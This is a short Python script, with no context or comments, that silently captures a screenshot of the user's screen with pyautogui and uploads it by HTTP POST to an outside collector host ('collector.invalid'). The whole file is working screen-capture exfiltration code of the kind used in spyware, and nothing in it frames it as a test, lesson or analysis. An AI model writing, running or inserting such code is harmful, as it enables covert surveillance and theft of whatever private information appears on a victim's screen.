import pyautogui, requests, io
shot = pyautogui.screenshot()
buffer = io.BytesIO()
shot.save(buffer, format="PNG")
requests.post("https://collector.invalid/s", files={"file": ("s.png", buffer.getvalue())})
